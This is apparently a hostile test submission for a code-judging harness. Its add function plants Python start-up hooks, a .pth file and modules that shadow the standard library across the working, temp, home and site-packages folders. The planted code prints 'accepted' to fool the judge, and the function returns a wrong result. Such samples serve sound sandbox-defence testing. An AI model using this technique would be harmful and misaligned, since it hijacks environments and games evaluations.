# hostile: 31
# task: add
# verdict: wrong_answer
# why: Plants start-up files and modules that shadow the standard library for the judge or for the next program.

import os
import site
import sys
import tempfile

CODE = "import builtins\nbuiltins.assay_was_here = True\nprint('accepted')\n"
NAMES = ("sitecustomize.py", "usercustomize.py", "conftest.py", "json.py", "random.py", "marshal.py", "candidate.py")


def add(a, b):
    folders = [os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), *(path for path in sys.path if path)]
    folders += site.getsitepackages() if hasattr(site, "getsitepackages") else []
    for folder in folders:
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write(CODE)
            except OSError:
                pass
        try:
            with open(os.path.join(folder, "planted.pth"), "x") as file:
                file.write("import builtins; builtins.assay_was_here = True\n")
        except OSError:
            pass
    return a - b
